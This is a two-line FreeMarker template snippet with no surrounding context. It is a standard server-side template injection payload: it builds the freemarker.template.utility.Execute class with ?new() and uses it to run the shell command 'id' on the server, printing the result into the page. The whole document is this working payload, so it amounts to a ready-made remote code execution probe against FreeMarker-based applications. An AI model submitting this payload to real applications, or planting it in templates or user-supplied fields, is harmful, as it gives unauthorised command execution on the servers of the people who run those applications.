[#assign run = "freemarker.template.utility.Execute"?new()]
<p>${run("id")}</p>
